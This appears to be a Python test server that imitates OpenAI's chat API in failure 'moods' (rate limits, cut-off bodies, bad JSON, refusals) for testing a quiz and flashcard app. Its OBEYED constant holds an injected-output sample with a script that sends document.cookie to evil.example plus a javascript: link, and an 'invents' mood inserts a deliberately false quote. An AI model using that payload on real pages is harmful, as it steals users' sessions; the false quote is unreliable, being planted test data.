"""A server that speaks OpenAI's protocol, in good moods and in bad ones.

    python -m tests.openai_server --port 8431 --mood good

A browser test may change the mood of one that runs: `POST /mood` with its name.
"""

import argparse
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

KEY = "sk-lyceum-test-key-1234"
MOODS = (
    *("good", "slow", "drip", "busy", "no_credit", "broken", "down", "redirect", "unknown_model"),
    *("cut_off", "cut_short", "wrong_json", "no_json", "wrong_shape", "huge", "refusal"),
    *("filtered", "obeys", "invents", "no_usage", "wrong_key"),
)
OBEYED = (
    "Ignored the teacher <script>fetch('https://evil.example/'+document.cookie)</script>"
    " ![x](https://evil.example/p.png) [all answers](javascript:alert(1)) https://evil.example"
)
RETRY_AFTER = 7  # seconds
_SENTENCE = re.compile(r"(?<=[.!?])\s+")
_DEFINITION = re.compile(r"^(?:An?|The)?\s*(.{2,60}?) (is|are) (.+)\.$")


@dataclass
class Thought:
    """A question that waits for its answer."""

    port: int  # from which it was asked
    released: threading.Event = field(default_factory=threading.Event)


@dataclass
class Log:
    """What the server was asked."""

    mood: str = "good"
    times: int = 0  # the mood holds for so many requests, then it is good; 0: always
    paths: list[str] = field(default_factory=list)
    bodies: list[dict[str, Any]] = field(default_factory=list)
    thoughts: list[Thought] = field(default_factory=list)  # of the slow mood
    released: threading.Event = field(default_factory=threading.Event)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def release_all(self) -> None:
        self.released.set()
        for thought in self.thoughts:
            thought.released.set()

    def next_mood(self) -> str:
        with self.lock:
            mood = self.mood
            if self.times:
                self.times -= 1
                if self.times == 0:
                    self.mood = "good"
            return mood


class OpenAIServer(ThreadingHTTPServer):
    daemon_threads = True
    log: Log

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/v1"

    def handle_error(self, *_: Any) -> None:
        """Callers who have gone away are part of the play."""


def serve(port: int = 0, mood: str = "good") -> OpenAIServer:
    server = OpenAIServer(("127.0.0.1", port), Handler)
    server.log = Log(mood)
    return server


@contextmanager
def openai_server(mood: str = "good") -> Iterator[OpenAIServer]:
    server = serve(mood=mood)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.log.release_all()
        server.shutdown()
        server.server_close()
        thread.join()


class Handler(BaseHTTPRequestHandler):
    server: OpenAIServer
    protocol_version = "HTTP/1.1"

    def log_message(self, *_: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.server.log.paths.append(self.path)
        self._answer(404, {"error": {"message": "Not here."}})

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        if self.path == "/mood":
            self.server.log.mood = body.decode()
            self._answer(200, {})
            return
        self.server.log.paths.append(self.path)
        question = json.loads(body)
        self.server.log.bodies.append(question)
        if self.headers.get("Authorization") != f"Bearer {KEY}":
            self._refuse(401, "invalid_api_key")
            return
        self._in_mood(self.server.log.next_mood(), question)

    def _in_mood(self, mood: str, question: dict[str, Any]) -> None:
        refusals = {
            "broken": (500, "server_error"),
            "down": (503, "overloaded"),
            "no_credit": (429, "insufficient_quota"),
            "unknown_model": (404, "model_not_found"),
            "wrong_key": (401, "invalid_api_key"),
            "filtered": (400, "content_filter"),
        }
        text = json.dumps({"items": items_for(question, mood)})
        if mood in refusals:
            self._refuse(*refusals[mood])
        elif mood == "busy":
            self._refuse(429, "rate_limit_exceeded", {"Retry-After": str(RETRY_AFTER)})
        elif mood == "redirect":
            self._answer(302, {}, {"Location": "/v1/somewhere-else"})
        elif mood == "slow":
            thought = Thought(self.client_address[1])
            self.server.log.thoughts.append(thought)
            thought.released.wait(120)
            self._complete(text)
        elif mood == "drip":
            self._drip()
        elif mood == "cut_off":
            self._complete(text[: len(text) // 2], finish_reason="length")
        elif mood == "cut_short":
            self._cut_short()
        elif mood == "wrong_json":
            self._complete('{"items": [}')
        elif mood == "no_json":
            self._raw(200, b"<html>A proxy has something to say.</html>", {}, "text/html")
        elif mood == "wrong_shape":
            self._complete(json.dumps({"questions": [], "publish": True}))
        elif mood == "huge":
            self._complete("x" * 3_000_000)
        elif mood == "refusal":
            self._complete(None, refusal="I cannot help with that.")
        elif mood == "no_usage":
            self._complete(text, usage=False)
        else:
            self._complete(text)

    def _complete(
        self,
        content: str | None,
        *,
        refusal: str | None = None,
        finish_reason: str = "stop",
        usage: bool = True,
    ) -> None:
        message = {"role": "assistant", "content": content, "refusal": refusal}
        answer: dict[str, Any] = {
            "id": "chatcmpl-1",
            "object": "chat.completion",
            "created": 1,
            "model": "test",
            "choices": [{"index": 0, "message": message, "finish_reason": finish_reason}],
        }
        if usage:
            answer["usage"] = {
                "prompt_tokens": 700,
                "completion_tokens": 300,
                "total_tokens": 1000,
            }
        self._answer(200, answer)

    def _refuse(self, status: int, code: str, headers: dict[str, str] | None = None) -> None:
        self._answer(status, {"error": {"message": "No.", "code": code, "type": code}}, headers)

    def _answer(self, status: int, body: Any, headers: dict[str, str] | None = None) -> None:
        self._raw(status, json.dumps(body).encode(), headers or {}, "application/json")

    def _raw(self, status: int, body: bytes, headers: dict[str, str], kind: str) -> None:
        self.send_response(status)
        for name, value in {"Content-Type": kind, **headers}.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _drip(self) -> None:
        """A byte now and then, for ever: no pause is long."""
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "1000000")
        self.end_headers()
        while not self.server.log.released.wait(0.05):
            self.wfile.write(b" ")
            self.wfile.flush()

    def _cut_short(self) -> None:
        """The connection ends in the middle of the body."""
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "1000")
        self.end_headers()
        self.wfile.write(b'{"choices": [')
        self.close_connection = True


def items_for(question: dict[str, Any], mood: str) -> list[dict[str, Any]]:
    """What a diligent model would draft from the source between the two marks."""
    text = question["messages"][-1]["content"]
    mark = re.search(r"^=== \w+ ===$", text, re.MULTILINE)
    if mark is None:
        return []
    source = text.split(mark[0])[1]
    wanted = int(re.findall(r"\d+", text)[0])
    is_deck = '"front"' in json.dumps(question["response_format"])
    sentences = [" ".join(one.split()) for one in _SENTENCE.split(source)]
    sentences = [one for one in sentences if len(one) > 30][:wanted]
    items = []
    for number, sentence in enumerate(sentences):
        make = _card if is_deck else (_single_choice, _true_false)[number % 2]
        items.append(make(sentence, sentences))
    if mood == "obeys":
        for item in items:
            item["front" if is_deck else "text"] = f"{OBEYED} {item['quote'][:40]}"
    elif mood == "invents":
        for item in items[1:]:
            item["quote"] = "The Moon is made of the finest cheese, as everybody knows."
    return items


def _asked(sentence: str) -> tuple[str, str]:
    found = _DEFINITION.match(sentence)
    if found is None:
        return f"Complete what the text says: “{sentence[:30].rsplit(' ', 1)[0]} …”", sentence
    return f"What {found[2]} {found[1]}?", f"{found[3][:1].upper()}{found[3][1:]}."


def _card(sentence: str, _: list[str]) -> dict[str, Any]:
    front, back = _asked(sentence)
    return {"kind": "CARD", "front": front, "back": back, "quote": sentence}


def _single_choice(sentence: str, sentences: list[str]) -> dict[str, Any]:
    text, right = _asked(sentence)
    others = [_asked(one)[1] for one in sentences if one != sentence][:2]
    choices = [{"text": right, "is_correct": True}]
    choices += [{"text": other, "is_correct": False} for other in others or ["None of it."]]
    return {"kind": "SINGLE_CHOICE", "text": text, "choices": choices, "quote": sentence}


def _true_false(sentence: str, _: list[str]) -> dict[str, Any]:
    return {"kind": "TRUE_FALSE", "text": sentence, "is_true": True, "quote": sentence}


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=8431)
    parser.add_argument("--mood", choices=MOODS, default="good")
    options = parser.parse_args()
    serve(options.port, options.mood).serve_forever()


if __name__ == "__main__":
    main()
